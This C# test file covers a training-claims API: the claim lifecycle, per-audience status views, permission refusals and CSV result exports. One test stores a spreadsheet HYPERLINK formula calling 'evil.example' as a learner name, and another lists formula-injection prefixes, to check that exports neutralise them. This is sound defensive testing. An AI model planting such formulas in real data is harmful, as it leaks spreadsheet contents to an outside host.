using Franchise.Domain.Identity;

namespace Franchise.Api.Tests.Assurance;

/// <summary>Claims: what they rest on, how they go, what each audience sees, and the file of results.</summary>
public sealed class ClaimTests
{
    [Fact]
    public async Task A_claim_is_drafted_handed_in_verified_and_awarded_and_the_course_is_claimed()
    {
        var at = await Claiming.ClaimableAsync();
        (await at.AssureAsync()).Is(200);
        var drafted = (await at.DraftAsync()).Is(201);
        Assert.Equal(2, drafted.Json.GetProperty("lines").GetArrayLength());
        var id = drafted.Text("id");
        (await at.Partner.DoToClaimAsync(id, "submit")).Is(200);
        (await at.Admin.DoToClaimAsync(id, "award", await at.AwardOf())).Refuses(409, "claim_not_verified");
        (await at.Admin.DoToClaimAsync(id, "verify")).Is(200);
        Assert.Equal("assured", await at.StatusAsync());

        // A certificate takes no other reference than a claim does: none would ever be made of this one.
        await at.WithoutEffectAsync(async () =>
        {
            foreach (var reference in new[] { "=1+1", "OCN_1", "Ocn é", " " })
            {
                var refused = (await at.Admin.DoToClaimAsync(id, "award", new { on = await at.Academy.Desk.TodayAsync(), reference })).Refuses(422, "validation_failed");
                Assert.Equal(["/reference"], refused.Json.GetProperty("errors").EnumerateArray().Select(e => e.GetProperty("pointer").GetString()!));
            }
        });
        var (award, tag) = (await at.AwardOf(), (await at.Admin.GetAsync($"/v1/claims/{id}")).ETag);
        var first = (await at.Admin.PostAsync($"/v1/claims/{id}/award", award, tag, "award-once-only")).Is(200);
        var again = (await at.Admin.PostAsync($"/v1/claims/{id}/award", award, tag, "award-once-only")).Is(200);
        Assert.Equal("true", again.Headers["Idempotency-Replayed"]);
        Assert.Equal(first.Body, again.Body);
        foreach (var line in first.Json.GetProperty("lines").EnumerateArray())
        {
            Assert.Equal("OCN-26-00815", line.GetProperty("awardReference").GetString());
            Assert.Equal($"{await at.Academy.Desk.TodayAsync():yyyy-MM-dd}", line.GetProperty("awardedOn").GetString());
        }
        Assert.Equal("claimed", await at.StatusAsync());
        Assert.Equal(1, await at.Academy.EventsAsync("claim.awarded"));
        // Thin: ids alone.
        var events = (await at.Partner.GetAsync("/v1/events?limit=200")).Is(200).Json.GetProperty("data").EnumerateArray().Where(e => e.GetProperty("type").GetString()!.StartsWith("claim.", StringComparison.Ordinal)).ToList();
        Assert.NotEmpty(events);
        Assert.All(events, e => Assert.Equal("courseId", Assert.Single(e.GetProperty("data").EnumerateObject()).Name));
        await at.WithoutEffectAsync(async () =>
        {
            foreach (var (caller, action, body) in new (Caller, string, object?)[]
            {
                (at.Partner, "submit", null), (at.Partner, "withdraw", null), (at.Admin, "verify", null), (at.Admin, "return", new { reason = "Late." }), (at.Admin, "award", award),
            })
                (await caller.DoToClaimAsync(id, action, body)).Refuses(409, "claim_state_forbids");
            (await at.DraftAsync()).Refuses(409, "nothing_to_claim");
            Assert.Equal(["/lines/0 already_claimed"], Claiming.Reasons((await at.DraftAsync(at.Enrolments[0])).Refuses(409, "already_claimed")));
        });
    }

    [Fact]
    public async Task Everything_that_stands_in_the_way_is_named_at_once_and_nothing_moves()
    {
        var at = await Assessed.OpenAsync(3);
        var (missing, left, good) = (at.Enrolments[0], at.Enrolments[1], at.Enrolments[2]);
        await at.RegisterAsync(left);
        await at.RegisterAsync(good);
        (await at.EnterAsync(good, [.. Assessed.Criteria.Select(c => Assessed.Says(c))])).Is(200);
        (await at.EnterAsync(missing, Assessed.Says("1.1"), Assessed.Says("1.2", "referred"))).Is(200);
        (await at.School.DoToEnrolmentAsync(left, "withdraw", new { on = await at.Academy.Desk.TodayAsync(), reason = "caring" })).Is(200);
        // All that is achieved: of the three one alone.
        var all = (await at.DraftAsync()).Is(201);
        Assert.Equal(good, Assert.Single(all.Json.GetProperty("lines").EnumerateArray()).GetProperty("enrolmentId").GetString());
        (await at.Partner.DoToClaimAsync(all.Text("id"), "withdraw")).Is(200);

        var id = (await at.DraftAsync(missing, left, good)).Is(201).Text("id");
        await at.WithoutEffectAsync(async () =>
        {
            var refused = (await at.Partner.DoToClaimAsync(id, "submit")).Refuses(409, "claim_not_possible");
            Assert.Equal(
                [
                    "/lines/0 criterion_not_met", "/lines/0 criterion_not_met", "/lines/0 not_registered", "/lines/1 criterion_not_met", "/lines/1 criterion_not_met", "/lines/1 criterion_not_met",
                    "/lines/1 withdrawn_before_achieving", " not_assured",
                ],
                Claiming.Reasons(refused));
            Assert.Contains($"Criterion 1.2 of {at.Unit} is not met.", refused.Body, StringComparison.Ordinal);
        });
        // One criterion missing is enough.
        (await at.EnterAsync(missing, Assessed.Says("1.2"))).Is(200);
        await at.RegisterAsync(missing);
        await at.SettleAllAsync();
        (await at.Partner.DoToClaimAsync(id, "withdraw")).Is(200);
        var one = (await at.DraftAsync(missing)).Is(201).Text("id");
        Assert.Equal(["/lines/0 criterion_not_met"], Claiming.Reasons((await at.Partner.DoToClaimAsync(one, "submit")).Refuses(409, "claim_not_possible")));
        (await at.EnterAsync(missing, Assessed.Says("2.1"))).Is(200);
        // Now the new decision is still to be looked at.
        Assert.Equal([" not_assured"], Claiming.Reasons((await at.Partner.DoToClaimAsync(one, "submit")).Refuses(409, "claim_not_possible")));
        await at.SettleAllAsync();
        (await at.Partner.DoToClaimAsync(one, "submit")).Is(200);
    }

    [Fact]
    public async Task An_open_action_of_internal_assurance_stops_a_claim_with_direct_claims_held_too()
    {
        var at = await Claiming.ClaimableAsync(settle: false);
        await at.Academy.HeldAsync();
        var samples = await at.PendingAsync();
        (await at.SettleAsync(samples[0], "actionRequired", "Show the criterion.", (await at.Academy.Desk.TodayAsync()).AddDays(9))).Is(200);
        await at.SettleAllAsync();
        var id = (await at.DraftAsync()).Is(201).Text("id");
        Assert.Equal([" not_assured"], Claiming.Reasons((await at.Partner.DoToClaimAsync(id, "submit")).Refuses(409, "claim_not_possible")));
        (await at.Assurer.PostAsync($"/v1/samples/{samples[0]}/close-action", new { note = "Shown." })).Is(200);
        (await at.Partner.DoToClaimAsync(id, "submit")).Is(200);
    }

    [Fact]
    public async Task Direct_claims_save_verification_until_the_only_assurer_leaves_the_day_before()
    {
        var at = await Claiming.ClaimableAsync();
        var provision = await at.Academy.HeldAsync();
        var id = await at.SubmittedAsync();
        async Task<string> Word(string audience) => (await at.Admin.GetAsync($"/v1/claims/{id}/status?audience={audience}")).Is(200).Text("status");
        Assert.Equal(("withAwardingOrganisation", "directToAward", "claimed"), (await Word("partner"), await Word("qualityLead"), await Word("awardingBody")));

        (await at.Partner.PostAsync($"/v1/assurers/{at.AssurerId}/stand-down", null, (await at.Partner.GetAsync($"/v1/assurers/{at.AssurerId}")).Is(200).ETag)).Is(200);
        // Before anything has frozen it, too.
        (await at.Admin.DoToClaimAsync(id, "award", await at.AwardOf())).Refuses(409, "claim_not_verified");
        await at.Academy.ReviewDirectClaimsAsync();
        Assert.Equal("frozen", (await at.Academy.ProvisionAsync(provision)).Text("directClaims"));
        await at.WithoutEffectAsync(async () => (await at.Admin.DoToClaimAsync(id, "award", await at.AwardOf())).Refuses(409, "claim_not_verified"));
        Assert.Equal(("withCohort4", "toVerify", "notClaimed"), (await Word("partner"), await Word("qualityLead"), await Word("awardingBody")));
        (await at.Admin.DoToClaimAsync(id, "verify")).Is(200);
        Assert.Equal("awarded", (await at.Admin.DoToClaimAsync(id, "award", await at.AwardOf())).Is(200).Text("status"));
    }

    [Fact]
    public async Task Held_direct_claims_are_awarded_without_verification()
    {
        var at = await Claiming.ClaimableAsync();
        await at.Academy.HeldAsync();
        var id = await at.SubmittedAsync();
        var awarded = (await at.Admin.DoToClaimAsync(id, "award", await at.AwardOf())).Is(200).Json;
        Assert.Equal(System.Text.Json.JsonValueKind.Null, awarded.GetProperty("verifiedAt").ValueKind);
        // The course is not assured as a whole, so it is not claimed yet either.
        Assert.Equal("assessing", await at.StatusAsync());
        // Once it is, nothing is left to claim.
        Assert.Equal("claimed", (await at.AssureAsync()).Is(200).Text("status"));
    }

    [Fact]
    public async Task A_result_that_is_decided_anew_after_handing_in_is_awarded_with_its_own_day()
    {
        var at = await Claiming.ClaimableAsync(1);
        var id = await at.SubmittedAsync();
        var earlier = await at.Academy.Desk.TodayAsync();
        await at.Academy.Desk.MoveAsync(3);
        var today = await at.Academy.Desk.TodayAsync();
        var decision = (await at.DecisionsAsync(at.Enrolments[0])).First(d => d.GetProperty("criterion").GetString() == "1.1").GetProperty("id").GetString();
        (await at.Partner.PostAsync(
            $"/v1/enrolments/{at.Enrolments[0]}/results",
            new { unit = at.Unit, assessorId = at.Trainer, decidedOn = today, decisions = new[] { Assessed.Says("1.1", corrects: decision, reason: "On another essay.") } })).Is(200);
        await at.SettleAllAsync();
        (await at.Admin.DoToClaimAsync(id, "verify")).Is(200);
        await at.WithoutEffectAsync(async () => (await at.Admin.DoToClaimAsync(id, "award", new { on = earlier, reference = "OCN-1" })).Refuses(422, "validation_failed"));
        var awarded = (await at.Admin.DoToClaimAsync(id, "award", new { on = today, reference = "OCN-1" })).Is(200);
        Assert.Equal(today.ToString("O"), Assert.Single(awarded.Json.GetProperty("lines").EnumerateArray()).GetProperty("achievedOn").GetString());
    }

    [Fact]
    public async Task A_result_stands_in_one_live_claim_and_is_free_again_when_that_is_returned_or_withdrawn()
    {
        var at = await Claiming.ClaimableAsync();
        var answers = await Task.WhenAll(Enumerable.Range(0, 4).Select(_ => at.DraftAsync(at.Enrolments[0])));
        Assert.Equal(1, answers.Count(a => a.Status == 201));
        Assert.All(answers.Where(a => a.Status != 201), a => a.Refuses(409, "already_claimed"));
        var id = answers.Single(a => a.Status == 201).Text("id");
        (await at.Partner.DoToClaimAsync(id, "submit")).Is(200);
        (await at.Admin.DoToClaimAsync(id, "return", new { reason = "A number is unknown." })).Is(200);
        var partner = (await at.Partner.GetAsync($"/v1/claims/{id}/status?audience=partner")).Is(200);
        Assert.Equal(("returned", "A number is unknown."), (partner.Text("status"), partner.Text("returnedBecause")));
        var body = (await at.Partner.GetAsync($"/v1/claims/{id}/status?audience=awardingBody")).Is(200);
        Assert.Equal("withdrawn", body.Text("status"));
        Assert.DoesNotContain("A number is unknown.", body.Body, StringComparison.Ordinal);
        var next = await at.SubmittedAsync();
        Assert.Equal(2, (await at.Partner.GetAsync($"/v1/claims/{next}")).Json.GetProperty("lines").GetArrayLength());
        (await at.Partner.DoToClaimAsync(next, "withdraw")).Is(200);
        (await at.DraftAsync()).Is(201);
        Assert.Equal(3, (await at.Partner.GetAsync($"/v1/claims?course={at.Course}")).Is(200).Json.GetProperty("data").GetArrayLength());
    }

    [Fact]
    public async Task Each_audience_sees_its_own_members()
    {
        var at = await Claiming.ClaimableAsync();
        var id = await at.SubmittedAsync();
        (await at.Admin.DoToClaimAsync(id, "verify")).Is(200);
        var lead = (await at.Admin.GetAsync($"/v1/claims/{id}/status?audience=qualityLead")).Is(200).Json;
        Assert.False(lead.GetProperty("direct").GetBoolean());
        Assert.NotEqual(System.Text.Json.JsonValueKind.Null, lead.GetProperty("verifiedAt").ValueKind);
        var body = (await at.Admin.GetAsync($"/v1/claims/{id}/status?audience=awardingBody")).Is(200);
        Assert.Equal(2, body.Json.GetProperty("registrations").GetArrayLength());
        Assert.All(body.Json.GetProperty("registrations").EnumerateArray(), r => Assert.StartsWith("OCN-", r.GetProperty("registrationNumber").GetString()));
        Assert.DoesNotContain("enr_", body.Body, StringComparison.Ordinal);
        Assert.Equal(System.Text.Json.JsonValueKind.Null, body.Json.GetProperty("submittedAt").ValueKind);
        var partner = (await at.Partner.GetAsync($"/v1/claims/{id}/status?audience=partner")).Is(200).Json;
        Assert.Equal(System.Text.Json.JsonValueKind.Null, partner.GetProperty("verifiedAt").ValueKind);
        (await at.Partner.GetAsync($"/v1/claims/{id}/status?audience=qualityLead")).Refuses(403, "audience_not_yours");
        (await at.Partner.GetAsync($"/v1/claims/{id}/status?audience=everybody")).Refuses(422, "validation_failed");
        Assert.Equal("partner", (await at.Partner.GetAsync($"/v1/claims/{id}/status")).Is(200).Text("audience"));
        Assert.Equal("qualityLead", (await at.Admin.GetAsync($"/v1/claims/{id}/status")).Is(200).Text("audience"));
    }

    [Fact]
    public async Task What_is_refused_leaves_no_trace()
    {
        var (at, other) = (await Claiming.ClaimableAsync(), await Claiming.ClaimableAsync(1));
        var id = await at.SubmittedAsync();
        var tag = (await at.Partner.GetAsync($"/v1/claims/{id}")).ETag;
        var foreign = await other.SubmittedAsync();
        var viewer = await at.School.App.CallerAsync(at.Partner.Organisation, Permission.Of(Role.Viewer));
        var today = await at.Academy.Desk.TodayAsync();
        await other.WithoutEffectAsync(() => at.WithoutEffectAsync(async () =>
        {
            foreach (var path in new[] { "", "/status?audience=partner", "/results.csv" })
            {
                (await at.Partner.GetAsync($"/v1/claims/{foreign}{path}")).Refuses(404, "not_found");
                (await viewer.GetAsync($"/v1/claims/{id}{path}")).Refuses(403, "permission_missing");
            }
            (await at.Partner.GetAsync($"/v1/courses/{other.Course}/results.csv")).Refuses(404, "not_found");
            (await at.Partner.PostAsync($"/v1/courses/{other.Course}/claims", new { })).Refuses(404, "not_found");
            (await at.Partner.PostAsync($"/v1/claims/{foreign}/withdraw", null, tag)).Refuses(404, "not_found");
            Assert.Equal(0, (await at.Partner.GetAsync($"/v1/claims?course={other.Course}")).Is(200).Json.GetProperty("data").GetArrayLength());
            // Names are the organisation's own: Cohort 4 does not fetch them.
            (await at.Admin.GetAsync($"/v1/claims/{id}/results.csv")).Refuses(403, "permission_missing");
            (await at.Partner.PostAsync($"/v1/claims/{id}/verify", null, tag)).Refuses(403, "permission_missing");
            (await at.Partner.PostAsync($"/v1/claims/{id}/award", new { on = today, reference = "OCN-1" }, tag)).Refuses(403, "permission_missing");
            (await at.Admin.DoToClaimAsync(id, "verify", key: "")).Is(400);
            (await at.Admin.SendAsync(HttpMethod.Post, $"/v1/claims/{id}/verify", null, tag)).Refuses(428, "idempotency_key_required");
            (await at.Admin.PostAsync($"/v1/claims/{id}/verify", null, "\"v1\"")).Refuses(412, "stale");
            (await at.Admin.DoToClaimAsync(id, "return", new { reason = "" })).Refuses(422, "validation_failed");
            (await at.Partner.PostAsync($"/v1/courses/{at.Course}/claims", new { lines = new[] { new { enrolmentId = other.Enrolments[0], unit = at.Unit } } })).Refuses(422, "validation_failed");
            (await at.Partner.PostAsync($"/v1/courses/{at.Course}/claims", new { lines = new[] { new { enrolmentId = at.Enrolments[0], unit = at.Academy.OtherUnit } } })).Refuses(422, "validation_failed");
            (await at.Partner.PostAsync($"/v1/courses/{at.Course}/claims", new { lines = Array.Empty<object>() })).Refuses(422, "validation_failed");
        }));
        (await at.Admin.DoToClaimAsync(id, "verify")).Is(200);
        await at.WithoutEffectAsync(async () =>
        {
            (await at.Admin.DoToClaimAsync(id, "award", new { on = today.AddDays(1), reference = "OCN-1" })).Refuses(422, "validation_failed");
            (await at.Admin.DoToClaimAsync(id, "award", new { on = at.First, reference = "OCN-1" })).Refuses(422, "validation_failed");
            (await at.Admin.DoToClaimAsync(id, "award", new { on = today, reference = "" })).Refuses(422, "validation_failed");
        });
    }

    [Fact]
    public async Task A_result_corrected_after_verification_is_not_awarded()
    {
        var at = await Claiming.ClaimableAsync(1);
        var id = await at.SubmittedAsync();
        (await at.Admin.DoToClaimAsync(id, "verify")).Is(200);
        var decision = (await at.DecisionsAsync(at.Enrolments[0])).First(d => d.GetProperty("criterion").GetString() == "1.1").GetProperty("id").GetString();
        (await at.EnterAsync(at.Enrolments[0], Assessed.Says("1.1", "notYet", corrects: decision, reason: "The wrong essay."))).Is(200);
        await at.WithoutEffectAsync(async () =>
            Assert.Contains("/lines/0 criterion_not_met", Claiming.Reasons((await at.Admin.DoToClaimAsync(id, "award", await at.AwardOf())).Refuses(409, "claim_not_possible"))));
    }

    [Fact]
    public async Task A_formula_in_a_name_comes_out_harmless_and_every_download_is_on_record()
    {
        var at = await Claiming.ClaimableAsync();
        const string Formula = "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Jo\")";
        var learner = (await at.Partner.GetAsync($"/v1/enrolments/{at.Enrolments[0]}")).Text("learnerId");
        (await at.Partner.PutAsync($"/v1/learners/{learner}", new { legalName = Formula }, (await at.Partner.GetAsync($"/v1/learners/{learner}")).ETag)).Is(200);
        var second = (await at.Partner.GetAsync($"/v1/enrolments/{at.Enrolments[1]}")).Text("learnerId");
        (await at.Partner.PutAsync($"/v1/learners/{second}", new { legalName = "Zoë Ångström-Ðórðardóttir" }, (await at.Partner.GetAsync($"/v1/learners/{second}")).ETag)).Is(200);
        var id = await at.SubmittedAsync();

        var answer = (await at.Partner.GetAsync($"/v1/claims/{id}/results.csv")).Is(200);
        Assert.StartsWith("text/csv", answer.Headers["Content-Type"]);
        Assert.Contains("attachment", answer.Headers["Content-Disposition"], StringComparison.Ordinal);
        Assert.Contains("no-store", answer.Headers["Cache-Control"], StringComparison.Ordinal);
        var bytes = await at.Partner.BytesAsync($"/v1/claims/{id}/results.csv");
        Assert.Equal<byte>([0xef, 0xbb, 0xbf], bytes[..3]);
        var lines = System.Text.Encoding.UTF8.GetString(bytes[3..]).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.StartsWith("organisation_id,course_id,claim_id,enrolment_id,learner_id,registration_number,uln,legal_name,unit,", lines[0]);
        Assert.Equal(3, lines.Length);
        Assert.Contains($",\"'{Formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\",", lines[1], StringComparison.Ordinal);
        Assert.Contains(",Zoë Ångström-Ðórðardóttir,", lines[2], StringComparison.Ordinal);
        Assert.Contains(",achieved,", lines[2], StringComparison.Ordinal);
        Assert.Equal(2, await at.Academy.EventsAsync("claim.results_read"));

        var course = System.Text.Encoding.UTF8.GetString(await at.Partner.BytesAsync($"/v1/courses/{at.Course}/results.csv"));
        Assert.Contains(id, course, StringComparison.Ordinal);
        Assert.Contains(",submitted,", course, StringComparison.Ordinal);
        Assert.Equal(1, await at.Academy.EventsAsync("course.results_read"));
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+44 1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1)")]
    [InlineData("\tx")]
    [InlineData("\rx")]
    [InlineData("＝1")]
    public void What_a_spreadsheet_would_run_is_written_as_text(string value)
    {
        var text = System.Text.Encoding.UTF8.GetString(Franchise.Infrastructure.Documents.CsvTable.Of(["name"], [[value], ["Jo, \"the\" Example"], [null]])[3..]);
        var cell = text["name\r\n".Length..];
        Assert.StartsWith("'" + value, cell.TrimStart('"'), StringComparison.Ordinal);
        Assert.Contains("\"Jo, \"\"the\"\" Example\"", text, StringComparison.Ordinal);
    }

    [Fact]
    public void What_is_a_number_stays_one_in_a_spreadsheet_below_nothing_too() =>
        Assert.Equal(
            "number\r\n-1205.50\r\n-3\r\n-7\r\n1.00\r\n2027-03-01\r\n",
            System.Text.Encoding.UTF8.GetString(Franchise.Infrastructure.Documents.CsvTable.Of(["number"], [[-1205.50m], [-3], [-7L], [1.00m], [new DateOnly(2027, 3, 1)]])[3..]));
}
